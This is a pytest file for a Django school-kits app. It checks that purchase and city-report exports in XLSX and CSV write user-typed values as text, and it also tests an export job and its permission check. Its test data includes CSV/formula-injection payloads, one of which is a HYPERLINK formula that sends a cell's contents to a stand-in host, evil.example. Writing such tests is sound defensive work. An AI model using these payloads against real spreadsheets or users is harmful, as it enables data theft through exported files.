"""Kits exports (a school's purchases as XLSX and CSV, the city report) write what people typed as
text: a supplier named like a formula stays text, never a formula (the core's one writer)."""

import csv
import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from kits import services
from kits.models import MakerRoom
from tests.factories import make_school

pytestmark = pytest.mark.django_db

EVIL = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', "=1+1", "+SUM(A1:A9)", "@cmd"]


def _buy(grant, user, tool, supplier, invoice):
    return services.record_purchase(
        grant=grant,
        tool_type=tool("led-red"),
        quantity=10,
        unit_cost="0.10",
        supplier=supplier,
        invoice_number=invoice,
        purchased_on=date(2026, 3, 2),
        user=user,
    )


def test_a_supplier_named_like_a_formula_comes_out_as_text(client, grant, labstaff, tool):
    for n, supplier in enumerate(EVIL):
        _buy(grant, labstaff, tool, supplier, f"=A{n}")
    client.force_login(labstaff)
    response = client.get("/admin/kits/dashboard/purchases/?format=xlsx")
    book = response.content
    sheet = load_workbook(io.BytesIO(book)).active
    rows = list(sheet.iter_rows())
    suppliers = {row[11].value: row[11].data_type for row in rows[1:]}
    assert set(suppliers) == set(EVIL)
    assert set(suppliers.values()) == {"s"}  # strings, not formulas ("f")
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml  # no formula anywhere in the sheet

    text = client.get("/admin/kits/dashboard/purchases/?format=csv").content.decode("utf-8-sig")
    data = list(csv.reader(io.StringIO(text)))
    assert {row[11] for row in data[1:]} == {f"'{s}" for s in EVIL}
    assert {row[12] for row in data[1:]} == {f"'=A{n}" for n in range(len(EVIL))}
    assert all(not cell.startswith(("=", "+", "@")) for row in data for cell in row)


def test_the_city_report_writes_school_names_as_text(client, coordinator, make_grant):
    from makerroom.core.models import SchoolStage

    school = make_school("SZ-9999", "=1+1", district="-2", stage=SchoolStage.PRIMARY)
    make_grant(MakerRoom.objects.create(school=school))
    client.force_login(coordinator)
    sheet = load_workbook(io.BytesIO(client.get("/admin/kits/city/?format=xlsx").content)).active
    row = next(r for r in sheet.iter_rows() if r[0].value == "SZ-9999")
    assert (row[1].value, row[1].data_type, row[2].value) == ("=1+1", "s", "-2")
    text = client.get("/admin/kits/city/?format=csv").content.decode("utf-8-sig")
    row = next(r for r in csv.reader(io.StringIO(text)) if r[0] == "SZ-9999")
    assert row[1:3] == ["'=1+1", "'-2"]


def test_the_city_report_of_a_whole_city_is_written_by_the_worker_with_every_school(
    client, coordinator, labstaff, make_grant, monkeypatch, django_capture_on_commit_callbacks
):
    from makerroom.core.models import Job, JobState

    from kits import export_jobs

    for n in range(6):
        make_grant(MakerRoom.objects.create(school=make_school(f"SZ-08{n:02d}", f"深圳市第{n + 1}创客学校")))
    monkeypatch.setattr(export_jobs, "CITY_XLSX_ROWS_IN_REQUEST", 4)  # six schools are "a city" here
    client.force_login(coordinator)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.get("/admin/kits/city/?format=xlsx")
    job = Job.objects.get()
    assert response.status_code == 302 and response.url == job.get_absolute_url()
    job.refresh_from_db()
    assert job.state == JobState.DONE and job.owner == coordinator
    sheet = load_workbook(io.BytesIO(job.result_file.read())).active
    codes = {row[0].value for row in sheet.iter_rows(min_row=2)}
    assert {f"SZ-08{n:02d}" for n in range(6)} <= codes
    assert [c.value for c in sheet[1]][:2] == ["学校代码", "学校"]
    # CSV is written in the request at any size
    csv_response = client.get("/admin/kits/city/?format=csv")
    assert csv_response.status_code == 200 and Job.objects.count() == 1


def test_a_city_report_job_refuses_an_owner_who_lost_the_right(
    coordinator, labstaff, make_grant, django_capture_on_commit_callbacks
):
    from makerroom.core import jobs
    from makerroom.core.models import JobState

    from kits import export_jobs

    with django_capture_on_commit_callbacks(execute=True):
        job = jobs.start(labstaff, export_jobs.city_report_xlsx_job, "城市报表")  # a school's lab staff
    job.refresh_from_db()
    assert job.state == JobState.FAILED and not job.result_file
    assert job.message == "你已无权读取全市报表。"
